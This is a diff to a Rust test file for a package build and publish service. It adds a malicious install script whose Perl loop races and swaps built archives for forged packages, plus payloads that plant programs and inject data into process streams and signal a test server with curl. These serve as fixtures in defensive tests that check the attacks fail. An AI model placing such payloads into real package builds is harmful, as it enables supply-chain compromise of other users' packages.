@@ -1,9 +1,14 @@
 //! What one bad entry of the list can do: to its own packages anything, to others nothing. Each attack succeeded once.
 
 use std::fs;
+use std::path::Path;
 
+use serde_json::Value;
+
+use crate::engine_faults::is;
 use crate::folder::{self, Folder};
-use crate::util::{BASE_IMAGE, KEY, World, docker, trivial, unpack};
+use crate::proxy::{Act, Proxy};
+use crate::util::{BASE_IMAGE, KEY, World, docker, run, sh_in, trivial, unpack};
 use crate::wild::pkgbuild;
 
 /// What the attackers are after: published, from an entry of the list that isn't looked at again.
@@ -171,6 +176,69 @@ const SWAPPER: &str = r#"
       mv -T packages packages.old; ln -s /etc packages; rm packages; mv -T packages.old packages
     done ) >/dev/null 2>&1 &"#;
 
+/// The install script of a published package, which leaves a process of root's in the containers of those that depend on it: when
+/// makepkg has ended, and all that the build user had was killed, it takes the archives, or the whole folder, away from those who
+/// carry them, puts others of the same size into their place, and the right ones back, all the time. SERVER is told of both.
+const NESTER: &str = r#"post_install() {
+  local id=$RANDOM$RANDOM
+  mkdir -p /nest/evil
+  printf '# \npkgname = victim\npkgbase = victim\npkgver = 99-1\narch = any\n' > /nest/.PKGINFO
+  bsdtar -C /nest -cf - .PKGINFO | zstd -q > /nest/forged
+  cat > /nest/loop <<'LOOP'
+my ($id, $builder) = @ARGV;
+my $folder = "/build/packages";
+my @archives;
+do {
+    select undef, undef, undef, 0.02;
+    @archives = glob "$folder/*";
+} until @archives && !grep { (stat $_)[4] == $builder } glob "/proc/[0-9]*";
+open F, "/nest/forged";
+local $/;
+my $forged = <F>;
+my @names = map { s,.*/,,r } @archives;
+for my $name (@names) {
+    link "$folder/$name", "/nest/$name";
+    # What stands behind it is nothing to zstd.
+    my $size = (-s "/nest/$name") - length($forged) - 8;
+    open E, ">/nest/evil/$name";
+    print E $forged, pack("VV", 0x184d2a50, $size), "\0" x $size;
+    close E;
+}
+my $is_folder = $names[0] =~ /^folder/;
+if ($is_folder) {
+    # The image's own can't be renamed.
+    mkdir "$folder.new";
+    rename "$folder/$_", "$folder.new/$_" for @names;
+    rmdir $folder;
+    rename "$folder.new", $folder;
+}
+for (my $round = 0; ; $round++) {
+    if ($is_folder) {
+        rename $folder, "$folder.old";
+        symlink "/nest/evil", $folder;
+        unlink $folder;
+        rename "$folder.old", $folder;
+    } else {
+        for my $name (@names) {
+            for my $from ("/nest/evil", "/nest") {
+                link "$from/$name", "/nest/next";
+                rename "/nest/next", "$folder/$name";
+            }
+        }
+    }
+    system "curl", "-so", "/dev/null", "SERVER/static/swapping-$id" if $round == 10;
+}
+LOOP
+  curl -so /dev/null SERVER/static/nested-$id
+  perl /nest/loop $id $(id -u builder) < /dev/null > /dev/null 2>&1 &
+}
+"#;
+
+/// A `package()` that installs what tells it from others, and is no small archive.
+const HONEST: &str = r#"
+  install -Dm644 /dev/stdin "$pkgdir/usr/share/$pkgname/$pkgname" <<< $pkgname
+  head -c 100000 /dev/urandom > "$pkgdir/usr/share/$pkgname/random""#;
+
 /// The install script of a published package: it puts programs into the containers of those that depend on it.
 const PLANTER: &str = r#"post_install() {
   for program in bsdtar cat stat tar zstd find; do
@@ -280,37 +348,88 @@ fn an_archive_that_is_not_its_pkgbuilds_takes_all_of_the_build_with_it() {
     assert!(!pwned.exists());
 }
 
+/// What the packages of a split package are called.
+fn parts(name: &str) -> [String; 2] {
+    ["a", "b"].map(|it| format!("{name}-split-{it}"))
+}
+
+/// Asserts that the server has all packages of a pkgbase as their PKGBUILD makes them, each the one that was checked; or, if that
+/// failed at one of these steps, none of them.
+#[track_caller]
+fn assert_whole_or_refused(
+    world: &World,
+    report: &Value,
+    base: &str,
+    names: &[&str],
+    steps: &[&str],
+) {
+    let told = report["entries"].as_array().unwrap();
+    let told = told.iter().find(|it| it["pkgbase"] == base).unwrap();
+    let file = |name: &str| format!("{name}-1-1-any.pkg.tar.zst");
+    if told["outcome"] == "failed" {
+        let step = told["step"].as_str().unwrap();
+        assert!(steps.contains(&step), "{told}");
+        let published = world.server.published("bur");
+        assert!(!names.iter().any(|it| published.contains(&file(it))));
+        return;
+    }
+    assert_eq!(told["outcome"], "built", "{told}");
+    let archives = told["archives"].as_array().unwrap();
+    assert_eq!(archives.len(), names.len(), "{told}");
+    for name in names {
+        let is_its = |it: &&Value| it["file"] == file(name);
+        let checked = archives.iter().find(is_its).unwrap();
+        let published = world.server.file("bur", &file(name));
+        let sum = format!("sha256sum '{}' | cut -c 1-64", published.display());
+        assert_eq!(checked["sha256"], sh_in(Path::new("/"), &sum), "{name}");
+        assert_eq!(
+            unpack(&published, &format!("usr/share/{name}/{name}")),
+            *name
+        );
+        let info = unpack(&published, ".PKGINFO");
+        assert!(info.contains(&format!("\npkgname = {name}\n")), "{info}");
+    }
+}
+
 #[test]
 fn nothing_that_ran_beside_a_stranger_says_what_an_archive_is() {
     let (world, victim) = world_with_a_victim();
     // Of each a plain package, and a split one of which the last is the evil one.
-    let with_package = |name: &str, package: &str| {
-        let head = format!("{FORGE}pkgbase={name}\npkgver=1\npkgrel=1\narch=(any)\n");
+    let package = |name: &str, more: &str, evil: &str| {
+        let head = "pkgver=1\npkgrel=1\narch=(any)\n";
         world.package(
             name,
-            &format!("{head}pkgname={name}\npackage() {{\n{package}\n}}\n"),
+            &format!("{FORGE}pkgname={name}\n{head}{more}\npackage() {{\n{HONEST}\n{evil}\n}}\n"),
         );
-        let names =
-            format!("pkgname=({name}-split-a {name}-split-b)\npackage_{name}-split-a() {{ :; }}\n");
-        let package = package.replace(&format!("{name}-1-1"), &format!("{name}-split-a-1-1"));
+        let (split, [a, b]) = (format!("{name}-split"), parts(name));
+        let evil = evil.replace(&format!("{name}-1-1"), &format!("{a}-1-1"));
         world.package(
-            &format!("{name}-split"),
+            &split,
             &format!(
-                "{}{names}package_{name}-split-b() {{\n{package}\n}}\n",
-                head.replace(&format!("pkgbase={name}"), &format!("pkgbase={name}-split"))
+                "{FORGE}pkgbase={split}\npkgname=({a} {b})\n{head}{more}\n\
+                package_{a}() {{\n{HONEST}\n}}\npackage_{b}() {{\n{HONEST}\n{evil}\n}}\n"
             ),
         );
     };
     // b: into every stream that it can find, now and after makepkg has ended.
-    with_package(
+    package(
         "streams",
+        "",
         r#"
   forge victim.bytes "$(info victim 99-1 any)"
   ( while :; do for out in /proc/[0-9]*/fd/[12]; do
       { printf '\0streams-1-1-any.pkg.tar.zst\0%s\0%s\0' 200 "$(info victim 99-1 any)"; cat "$PKGDEST/victim.bytes"; } > "$out"
     done; sleep 0.01; done ) >/dev/null 2>&1 &"#,
     );
-    with_package("swapper", SWAPPER);
+    // k: what is carried is another's for a moment, and its folder is.
+    let nester = NESTER.replace("SERVER", &world.server.url());
+    let files = [
+        ("PKGBUILD", &*pkgbuild("nester", "install=nester.install")),
+        ("nester.install", &nester),
+    ];
+    world.list(&world.git("nester", &files), "bur");
+    package("archive", "makedepends=(nester)", "");
+    package("folder", "makedepends=(nester)", "");
     let planter = "install=planter.install";
     let url = world.git(
         "planter",
@@ -347,14 +466,40 @@ PROGRAM
         "pkgbase=planted-split\npkgname=(planted-a planted-b)\npkgver=1\npkgrel=1\narch=(any)\nmakedepends=(planter)\n\
         package_planted-a() { :; }\npackage_planted-b() { :; }\n",
     );
-    world
-        .build(&[])
+    // Nothing is carried before what is to be in the way is at it.
+    let server = world.server.clone();
+    let proxy = Proxy::start(&world, move |text| {
+        if is(text, &["GET ", "/archive?path=", "packages"]) {
+            for nested in server.asked_for("GET /static/nested-") {
+                server.wait_for(&nested.replace("nested", "swapping"));
+            }
+        }
+        Act::Pass
+    });
+    let report = world.dir.path().join("report.json");
+    let mut command = world.vieter();
+    command.args(["--docker-host", &proxy.host, "--report"]);
+    run(command.arg(&report))
         .exits(1)
+        .reports("built       nester 1-1  ")
         .reports("built       planter 1-1  ")
         .reports("built       listed 1-1  ")
         .reports("failed      planted 1-1  at publish  ")
         .reports("failed      planted-split 1-1  at publish  ");
     assert_eq!(fs::read(world.server.file("bur", VICTIM)).unwrap(), victim);
+    let told: Value = serde_json::from_slice(&fs::read(&report).unwrap()).unwrap();
+    for (name, steps) in [
+        // It may have spoilt its own archive.
+        ("streams", &["build", "publish"][..]),
+        ("archive", &["publish"]),
+        ("folder", &["publish"]),
+    ] {
+        let [a, b] = parts(name);
+        assert_whole_or_refused(&world, &told, name, &[name], steps);
+        assert_whole_or_refused(&world, &told, &format!("{name}-split"), &[&a, &b], steps);
+    }
+    let swapping = world.server.asked_for("GET /static/swapping-");
+    assert_eq!(swapping.len(), 4, "{swapping:?}");
     for published in world.server.published("bur") {
         let info = unpack(&world.server.file("bur", &published), ".PKGINFO");
         let name = info
